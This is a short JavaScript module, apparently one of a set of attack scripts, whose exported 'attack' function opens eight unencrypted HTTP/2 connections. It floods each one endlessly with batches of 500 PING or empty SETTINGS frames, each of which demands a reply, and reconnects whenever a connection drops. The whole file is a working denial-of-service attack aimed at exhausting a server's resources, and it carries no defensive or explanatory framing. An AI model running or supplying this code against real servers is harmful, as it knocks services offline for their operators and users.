// HTTP/2 without TLS: pings and settings, each of which asks for an answer.

import { connect } from './connection.mjs';

export const title = 'HTTP/2 pings and settings';
const CONNECTIONS = 8;
const AT_ONCE = 500;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const SETTINGS = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
const PING = Buffer.from([0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8]);

export async function attack(where) {
  await Promise.all(Array.from({ length: CONNECTIONS }, (_, each) => flood(where, each % 2 === 0 ? PING : SETTINGS)));
}

async function flood(where, one) {
  const frames = Buffer.concat(Array(AT_ONCE).fill(one));
  for (;;) {
    const socket = await connect(where);
    if (!socket) {
      await new Promise((resolve) => setTimeout(resolve, 20));
      continue;
    }
    const closed = new Promise((resolve) => socket.once('close', resolve));
    socket.resume().write(Buffer.concat([PREFACE, SETTINGS]));
    while (!socket.destroyed) {
      if (socket.write(frames)) await new Promise(setImmediate);
      else await Promise.race([closed, new Promise((resolve) => socket.once('drain', resolve))]);
    }
  }
}
